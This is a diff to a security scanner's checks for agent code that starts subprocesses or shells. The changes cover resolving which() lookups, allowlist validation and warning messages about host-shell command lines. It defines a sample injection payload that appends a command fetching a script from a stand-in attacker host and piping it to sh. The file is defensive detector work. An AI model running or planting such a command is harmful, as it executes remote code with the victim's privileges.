@@ -1,9 +1,9 @@
 /** subprocess: shells, dynamic programs, programs off the allowlist. */
 import { classifyCommand } from '../../policy/commands.js';
 import type { Action } from '../../policy/types.js';
-import type { Value } from '../facts.js';
+import type { FileFacts, Value } from '../facts.js';
 import { constant, constString, dictGet, fillHoleMarkers, joinValues, sanitizersOf, skeleton, unknown } from '../values.js';
-import { calleeText, fillHoles, quote, severityForTaint, taintPhrase, traceOf, unsanitized } from './common.js';
+import { calleeText, fillHoles, notAllowlisted, quote, severityForTaint, taintPhrase, traceOf, unsanitized } from './common.js';
 import type { Check, CheckContext, SinkHit } from './types.js';
 
 export const COMMAND_PAYLOAD = 'x; curl http://attacker.invalid/x | sh';
@@ -26,14 +26,22 @@ function listItems(v: Value | undefined): Value[] | undefined {
 /** The interpreter running the agent itself: a known program, not a dynamic one. */
 const RUNNING_INTERPRETER: Record<string, string> = { 'sys.executable': 'python3', 'process.execPath': 'node', 'process.argv0': 'node' };
 
-function knownProgram(v: Value | undefined): Value | undefined {
+/** Lookups of a program on PATH: `shutil.which("uv")` is `uv`, wherever it is installed. */
+const WHICH = new Set(['shutil.which()', 'which()', 'which.sync()']);
+
+function knownProgram(v: Value | undefined, facts?: FileFacts): Value | undefined {
   if (v && v.kind === 'unknown' && v.ref && RUNNING_INTERPRETER[v.ref] && !v.taint?.length) return constant(RUNNING_INTERPRETER[v.ref]!);
+  if (facts && v && v.kind === 'unknown' && v.ref && WHICH.has(v.ref) && !v.taint?.length) {
+    // the value does not say which lookup made it: when every lookup of the file names one constant program, it is that one
+    const names = new Set(facts.calls.filter((c) => c.callee + '()' === v.ref).map((c) => constString(c.args[0])));
+    if (names.size === 1 && !names.has(undefined)) return constant([...names][0]!);
+  }
   return v;
 }
 
-export function spawnShape(hit: SinkHit): SpawnShape {
+export function spawnShape(hit: SinkHit, facts?: FileFacts): SpawnShape {
   const shape = rawSpawnShape(hit);
-  return shape.program ? { ...shape, program: knownProgram(shape.program) } : shape;
+  return shape.program ? { ...shape, program: knownProgram(shape.program, facts) } : shape;
 }
 
 function rawSpawnShape(hit: SinkHit): SpawnShape {
@@ -91,7 +99,7 @@ function allowlistActive(ctx: CheckContext): string[] | null {
 export const commandShell: Check = {
   kind: 'sink',
   judge(hit, ctx) {
-    const shape = spawnShape(hit);
+    const shape = spawnShape(hit, ctx.facts);
     const callee = calleeText(ctx, hit.call);
     if (shape.line) {
       const v = shape.line;
@@ -100,8 +108,9 @@ export const commandShell: Check = {
       const taints = unsanitized(ctx, v, ['shell-quoted']);
       const action: Action = { kind: 'exec', command: fillHoles(v, COMMAND_PAYLOAD) ?? COMMAND_PAYLOAD, shell: true };
       // a line made only of the program's constants (also through helper parameters) is graded as a constant one
-      if (sk && (sk.holes.length === 0 || (!raw.length && ctx.fixed(v)))) {
-        return { message: `\`${callee}\` runs ${quote(fillHoleMarkers(sk.text, '…'))} through a shell; pass an argv list without a shell, or run it through the kernel.`, severity: 'low', action };
+      if ((sk && sk.holes.length === 0) || (!raw.length && ctx.fixed(v))) {
+        const what = sk ? quote(fillHoleMarkers(sk.text, '…')) : "a command line from the program's own constants";
+        return { message: `\`${callee}\` runs ${what} through a shell; pass an argv list without a shell, or run it through the kernel.`, severity: 'low', action };
       }
       const quoted = taints.length < raw.length || sanitizersOf(v).includes('shell-quoted');
       const from = taints.length ? taintPhrase(taints) : 'dynamic values';
@@ -136,8 +145,11 @@ export const commandShell: Check = {
         : verdict.problem === 'shell'
           ? `\`${program}\` is a shell`
           : `\`${program}\` runs the program its arguments name`;
+    const inline = verdict.problem === 'shell' && taints.length && shape.args.some((a) => /^-[a-z]*c$/.test(constString(a) ?? ''));
     return {
-      message: `\`${callee}\` starts \`${program}\` with dynamic arguments: ${what}.`,
+      message: inline
+        ? `\`${callee}\` runs a command line taken from ${taintPhrase(taints)} in a host shell (\`${program} -c\`): the model chooses what runs, with the agent's privileges.`
+        : `\`${callee}\` starts \`${program}\` with dynamic arguments: ${what}.`,
       // dynamic arguments with no untrusted origin in sight are worth a look, not an alarm
       severity: taints.length ? severityForTaint(taints, ctx.rule.severity) : 'medium',
       trace: traceOf(taints, ctx, hit.call, `reaches \`${callee}\``),
@@ -150,13 +162,15 @@ export const commandShell: Check = {
 export const commandDynamic: Check = {
   kind: 'sink',
   judge(hit, ctx) {
-    const shape = spawnShape(hit);
+    const shape = spawnShape(hit, ctx.facts);
     if (shape.line || shape.shell !== false) return undefined;
     const callee = calleeText(ctx, hit.call);
     const program = constString(shape.program);
     if (program === undefined) {
       if (!shape.program || ctx.fixed(shape.program)) return undefined;
-      const taints = unsanitized(ctx, shape.program, []);
+      const taints = notAllowlisted(ctx, shape.program);
+      // checked against a collection of the program's own values (`if prog not in allowed: raise`)
+      if (!taints.length && ctx.untrusted(shape.program).length) return undefined;
       return {
         message: `\`${callee}\` starts a program whose name is ${taints.length ? `taken from ${taintPhrase(taints)}` : 'not a constant'}; run a fixed program from an allowlist.`,
         severity: severityForTaint(taints, ctx.rule.severity),
@@ -183,7 +197,7 @@ export const commandAllowlist: Check = {
   judge(hit, ctx) {
     const allow = allowlistActive(ctx);
     if (allow === null) return undefined;
-    const shape = spawnShape(hit);
+    const shape = spawnShape(hit, ctx.facts);
     if (shape.line) return undefined; // the shell rule reports it
     const program = constString(shape.program);
     if (program === undefined) return undefined;
